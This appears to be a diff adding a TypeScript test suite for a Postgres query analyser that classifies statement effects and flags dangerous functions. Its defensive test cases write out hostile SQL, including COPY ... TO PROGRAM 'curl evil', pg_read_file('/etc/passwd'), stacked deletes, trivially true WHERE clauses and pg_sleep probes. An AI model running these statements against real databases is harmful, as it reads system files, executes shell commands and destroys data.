@@ -1,0 +1,340 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { isGatewayError } from '../../../shared/errors.js';
+import { analyseStatement } from '../../../shared/sql/analyse.js';
+import { analysePostgres } from '../../../shared/sql/postgres.js';
+
+const facts = (sql: string) => analysePostgres(sql);
+
+async function rejectsWith(sql: string, code: string): Promise<void> {
+  await assert.rejects(facts(sql), (e: unknown) => isGatewayError(e) && e.code === code);
+}
+
+describe('postgres effect (bypass classes)', () => {
+  const cases: [string, string][] = [
+    ['select 1; delete from customers', 'write'],
+    ['with x as (delete from orders returning *) select * from x', 'write'],
+    [
+      'with x as (select 1) select * from (with y as (update t set a = 1 returning a) select * from y) s',
+      'write',
+    ],
+    ['select * into new_table from customers', 'ddl'],
+    ["copy customers to program 'curl evil'", 'admin'],
+    ["copy customers to '/tmp/x.csv'", 'admin'],
+    ['copy customers to stdout', 'admin'],
+    ['explain analyze delete from orders', 'write'],
+    ['explain select * from orders', 'read'],
+    ['do $$ begin perform 1; end $$', 'exec'],
+    ['prepare p as select 1', 'exec'],
+    ['execute p', 'exec'],
+    ['deallocate p', 'exec'],
+    ['call refresh_all()', 'exec'],
+    ["create function f() returns int language sql as 'select 1'", 'exec'],
+    ['select * from customers for update', 'write'],
+    ['select * from (select * from customers for share) s', 'write'],
+    ['set role admin', 'admin'],
+    ['set session authorization postgres', 'admin'],
+    ['reset all', 'admin'],
+    ['begin', 'admin'],
+    ['commit', 'admin'],
+    ['rollback', 'admin'],
+    ['listen x', 'admin'],
+    ["notify x, 'y'", 'admin'],
+    ['lock table customers', 'admin'],
+    ['vacuum customers', 'admin'],
+    ['grant select on customers to public', 'admin'],
+    ["alter system set work_mem = '1GB'", 'admin'],
+    ["load 'plpgsql'", 'admin'],
+    ['checkpoint', 'admin'],
+    ['create table t (a int)', 'ddl'],
+    ['drop table customers', 'ddl'],
+    ['truncate customers', 'ddl'],
+    ['insert into t select * from customers', 'write'],
+    ['show work_mem', 'read'],
+    ['select 1 -- ; drop table x', 'read'],
+    ['select $$;delete from orders$$', 'read'],
+    ["select 'a;delete from orders'", 'read'],
+  ];
+  for (const [sql, effect] of cases) {
+    it(`${sql} -> ${effect}`, async () => {
+      assert.equal((await facts(sql)).effect, effect);
+    });
+  }
+
+  it('counts stacked statements and names their kinds', async () => {
+    const f = await facts('select 1; delete from customers');
+    assert.equal(f.statementCount, 2);
+    assert.deepEqual(f.statementKinds, ['SelectStmt', 'DeleteStmt']);
+  });
+
+  it('comment-split keywords do not parse', async () => {
+    await rejectsWith('sel/**/ect 1', 'unparseable_statement');
+  });
+
+  it('SELECT INTO sets into', async () => {
+    const f = await facts('select * into new_table from customers');
+    assert.equal(f.into, true);
+    assert.ok(f.tables.includes('public.new_table'));
+  });
+});
+
+describe('postgres dangerous functions', () => {
+  const cases: [string, string][] = [
+    ["select pg_read_file('/etc/passwd')", 'pg_read_file'],
+    ["select pg_catalog.pg_read_file('x')", 'pg_catalog.pg_read_file'],
+    ["select PG_READ_FILE('x')", 'pg_read_file'],
+    ['select "PG_READ_FILE"(\'x\')', 'pg_read_file'],
+    ["select * from (select pg_read_binary_file('x')) s", 'pg_read_binary_file'],
+    ["select case when true then pg_ls_dir('.') end", 'pg_ls_dir'],
+    ["select pg_stat_file('x')", 'pg_stat_file'],
+    ["select lo_import('/etc/passwd')", 'lo_import'],
+    ["select lo_export(1, '/tmp/x')", 'lo_export'],
+    ['select lo_get(1)', 'lo_get'],
+    ["select lo_put(1, 0, 'x')", 'lo_put'],
+    ["select lo_from_bytea(0, 'x')", 'lo_from_bytea'],
+    ["select * from dblink('host=x', 'select 1') as t(a int)", 'dblink'],
+    ["select dblink_exec('x', 'drop table y')", 'dblink_exec'],
+    ["select dblink_connect('x')", 'dblink_connect'],
+    ["select set_config('role', 'admin', false)", 'set_config'],
+    ['select pg_sleep(10)', 'pg_sleep'],
+    ["select pg_sleep_for('1 minute')", 'pg_sleep_for'],
+    ['select pg_sleep_until(now())', 'pg_sleep_until'],
+    ['select pg_terminate_backend(1)', 'pg_terminate_backend'],
+    ['select pg_cancel_backend(1)', 'pg_cancel_backend'],
+    ['select pg_reload_conf()', 'pg_reload_conf'],
+    ['select pg_rotate_logfile()', 'pg_rotate_logfile'],
+    ["select query_to_xml('delete from t', true, true, '')", 'query_to_xml'],
+    ["select query_to_xml_and_xmlschema('select 1', true, true, '')", 'query_to_xml_and_xmlschema'],
+    ["select table_to_xml('t', true, true, '')", 'table_to_xml'],
+    ["select cursor_to_xml('c', 1, true, true, '')", 'cursor_to_xml'],
+    ["select database_to_xml(true, true, '')", 'database_to_xml'],
+    ["select schema_to_xml('public', true, true, '')", 'schema_to_xml'],
+    ['select pg_advisory_lock(1)', 'pg_advisory_lock'],
+    ['select 1 from customers where id in (select pg_sleep(1))', 'pg_sleep'],
+    ['select 1 from customers c, lateral (select pg_sleep(1)) s', 'pg_sleep'],
+    ['values (pg_sleep(1))', 'pg_sleep'],
+    ['select coalesce(null, pg_sleep(1)::text)', 'pg_sleep'],
+  ];
+  for (const [sql, name] of cases) {
+    it(`${sql} flags ${name}`, async () => {
+      assert.ok((await facts(sql)).dangerousFunctions.includes(name));
+    });
+  }
+
+  it('ordinary functions are recorded but not dangerous', async () => {
+    const f = await facts("select upper(email), current_setting('x'), count(*) from customers");
+    assert.deepEqual(f.functions, ['count', 'current_setting', 'upper']);
+    assert.deepEqual(f.dangerousFunctions, []);
+  });
+});
+
+describe('postgres facts', () => {
+  it('qualifies tables, respects aliases and schemas, excludes CTE names', async () => {
+    const f = await facts(
+      'with recent as (select * from orders) select c.email from sales.customers c join recent r on r.cid = c.id',
+    );
+    assert.deepEqual(f.tables, ['public.orders', 'sales.customers']);
+    assert.deepEqual(f.columns['sales.customers'], ['email', 'id']);
+    assert.deepEqual(f.columns['public.orders'], ['*', 'cid']);
+  });
+
+  it('lower-cases quoted names and honours defaultSchema', async () => {
+    const quoted = await facts('select 1 from "public"."Customers"');
+    assert.deepEqual(quoted.tables, ['public.customers']);
+    const other = await analysePostgres('select 1 from customers', { defaultSchema: 'App' });
+    assert.deepEqual(other.tables, ['app.customers']);
+  });
+
+  it('a schema-qualified name is not a CTE of the same name', async () => {
+    const f = await facts('with customers as (select 1 as a) select * from public.customers, customers');
+    assert.deepEqual(f.tables, ['public.customers']);
+    assert.deepEqual(f.starTables, ['public.customers']);
+  });
+
+  it('finds tables in subqueries, DML targets and EXISTS', async () => {
+    const f = await facts('delete from orders o where exists (select 1 from customers c where c.id = o.cid)');
+    assert.deepEqual(f.tables, ['public.customers', 'public.orders']);
+    assert.ok(f.hasWhere);
+    assert.deepEqual(f.predicateColumns, ['public.customers.id', 'public.orders.cid']);
+  });
+
+  it('functions used as tables are functions, not tables', async () => {
+    const f = await facts('select * from generate_series(1, 3) g');
+    assert.deepEqual(f.tables, []);
+    assert.deepEqual(f.functions, ['generate_series']);
+  });
+
+  it('attaches unqualified columns to the only table, ambiguous ones to every table', async () => {
+    const single = await facts('select email from customers');
+    assert.deepEqual(single.columns, { 'public.customers': ['email'] });
+    const ambiguous = await facts('select note from customers c join orders o on o.cid = c.id');
+    assert.ok(ambiguous.columns['public.customers'].includes('note'));
+    assert.ok(ambiguous.columns['public.orders'].includes('note'));
+  });
+
+  it('records star tables for * and t.*', async () => {
+    const f = await facts('select c.*, o.id from customers c join orders o on o.cid = c.id');
+    assert.equal(f.selectStar, true);
+    assert.deepEqual(f.starTables, ['public.customers']);
+    const plain = await facts('select * from customers, orders');
+    assert.deepEqual(plain.starTables, ['public.customers', 'public.orders']);
+    assert.equal((await facts('select count(*) from customers')).selectStar, false);
+  });
+
+  it('reads constant LIMIT and FETCH FIRST, not LIMIT ALL or parameters', async () => {
+    assert.equal((await facts('select * from t limit 10')).limit, 10);
+    assert.equal((await facts('select * from t fetch first 5 rows only')).limit, 5);
+    assert.equal((await facts('select * from t limit 0')).limit, 0);
+    assert.equal((await facts('select * from t limit all')).limit, null);
+    assert.equal((await facts('select * from t limit $1')).limit, null);
+    assert.equal((await facts('select * from t')).limit, null);
+  });
+
+  it('tells trivially true WHERE clauses apart from real filters', async () => {
+    const trivial = [
+      'true',
+      '1=1',
+      "'a'='a'",
+      'id = 5 or 1=1',
+      'not false',
+      '1<2',
+      'id = id',
+      "'t'::boolean",
+      '(1=1) and true',
+    ];
+    for (const where of trivial) {
+      const f = await facts(`select * from customers where ${where}`);
+      assert.equal(f.whereTriviallyTrue, true, where);
+      assert.equal(f.hasWhere, true, where);
+    }
+    for (const where of ['id = 5', '1=1 and id = 5', 'id = $1 or email = $2', '1=2', 'false or id > 3']) {
+      assert.equal((await facts(`select * from customers where ${where}`)).whereTriviallyTrue, false, where);
+    }
+    assert.equal((await facts('select * from customers')).hasWhere, false);
+    assert.equal((await facts('update customers set a = 1 where 1=1')).whereTriviallyTrue, true);
+  });
+
+  it('collects predicate columns from WHERE, JOIN, USING, GROUP BY, HAVING, ORDER BY and windows', async () => {
+    const f = await facts(
+      'select c.region, rank() over (partition by c.segment order by c.score) ' +
+        'from customers c join orders o on o.cid = c.id join items i using (sku) ' +
+        'where c.active group by c.region having count(o.total) > 1 order by c.name',
+    );
+    for (const column of [
+      'public.customers.active',
+      'public.customers.region',
+      'public.customers.segment',
+      'public.customers.score',
+      'public.customers.name',
+      'public.customers.id',
+      'public.orders.cid',
+      'public.orders.total',
+      'public.items.sku',
+    ]) {
+      assert.ok(f.predicateColumns.includes(column), column);
+    }
+    assert.ok(!f.predicateColumns.includes('public.customers.email'));
+  });
+
+  it('ORDER BY an output alias or position sorts by its source columns', async () => {
+    const f = await facts('select upper(email) as e, id from customers order by e, 2');
+    assert.deepEqual(f.predicateColumns, ['public.customers.email', 'public.customers.id']);
+    assert.ok(!f.columns['public.customers'].includes('e'));
+  });
+
+  it('names outputs like Postgres and traces their sources', async () => {
+    const f = await facts(
+      "select upper(c.card_number) as x, c.card_number || '', c.email, count(*), 1::int, 'a'::text, " +
+        'case when c.vip then 1 end, (select max(o.total) from orders o where o.cid = c.id) from customers c',
+    );
+    assert.deepEqual(f.outputs, [
+      { name: 'x', sources: ['public.customers.card_number'], direct: false },
+      { name: '?column?', sources: ['public.customers.card_number'], direct: false },
+      { name: 'email', sources: ['public.customers.email'], direct: true },
+      { name: 'count', sources: [], direct: false },
+      { name: 'int4', sources: [], direct: false },
+      { name: 'text', sources: [], direct: false },
+      { name: 'case', sources: ['public.customers.vip'], direct: false },
+      { name: 'max', sources: ['public.orders.total'], direct: false },
+    ]);
+  });
+
+  it('follows outputs through a subquery and a CTE in FROM', async () => {
+    const sub = await facts('select s.e, s.n from (select lower(email) as e, name n from customers) s');
+    assert.deepEqual(sub.outputs, [
+      { name: 'e', sources: ['public.customers.email'], direct: true },
+      { name: 'n', sources: ['public.customers.name'], direct: true },
+    ]);
+    const cte = await facts(
+      'with k as (select card_number from customers) select right(card_number, 4) from k',
+    );
+    assert.deepEqual(cte.outputs, [
+      { name: 'right', sources: ['public.customers.card_number'], direct: false },
+    ]);
+  });
+
+  it('expands * into one output per star table', async () => {
+    const f = await facts('select * from customers c join orders o on o.cid = c.id');
+    assert.deepEqual(f.outputs, [
+      { name: '*', sources: ['public.customers.*'], direct: true },
+      { name: '*', sources: ['public.orders.*'], direct: true },
+    ]);
+  });
+
+  it('counts parameters and keeps them out of facts', async () => {
+    const f = await facts('select email from customers where id = $1 and region = $2');
+    assert.equal(f.paramCount, 2);
+    assert.equal(f.whereTriviallyTrue, false);
+  });
+});
+
+describe('postgres fingerprint', () => {
+  it('is stable across whitespace, comments, keyword case and constants', async () => {
+    const a = await facts('select email from customers where id = 1 limit 10');
+    const b = await facts('SELECT  email\n FROM customers /* hi */ WHERE id = 42 -- x\n LIMIT 5');
+    assert.match(a.fingerprint, /^[0-9a-f]{64}$/);
+    assert.equal(a.fingerprint, b.fingerprint);
+  });
+
+  it('differs for a different table, column or parameter', async () => {
+    const base = (await facts('select email from customers where id = $1')).fingerprint;
+    assert.notEqual(base, (await facts('select email from orders where id = $1')).fingerprint);
+    assert.notEqual(base, (await facts('select name from customers where id = $1')).fingerprint);
+    assert.notEqual(base, (await facts('select email from customers where id = $2')).fingerprint);
+  });
+});
+
+describe('postgres refusals', () => {
+  it('unparseable input names the position', async () => {
+    await assert.rejects(
+      facts('select from where'),
+      (e: unknown) =>
+        isGatewayError(e) && e.code === 'unparseable_statement' && /position \d+/.test(e.message),
+    );
+  });
+
+  it('does not echo huge input in the error', async () => {
+    const huge = `select 1 from '${'x'.repeat(50_000)}'`;
+    await assert.rejects(facts(huge), (e: unknown) => isGatewayError(e) && e.message.length < 400);
+  });
+
+  it('empty and comment-only statements are unparseable', async () => {
+    await rejectsWith('', 'unparseable_statement');
+    await rejectsWith('   ', 'unparseable_statement');
+    await rejectsWith('-- nothing', 'unparseable_statement');
+  });
+
+  it('refuses statements over 100 KB', async () => {
+    await rejectsWith(`select 1 ${' '.repeat(100 * 1024)}`, 'statement_refused');
+  });
+
+  it('unknown statement kinds fail closed as admin', async () => {
+    assert.equal((await facts('discard all')).effect, 'admin');
+    assert.equal((await facts('create role x')).effect, 'admin');
+  });
+
+  it('analyseStatement dispatches by engine', async () => {
+    assert.equal((await analyseStatement('postgres', 'select 1')).engine, 'postgres');
+    assert.equal((await analyseStatement('tsql', 'select 1')).engine, 'tsql');
+  });
+});
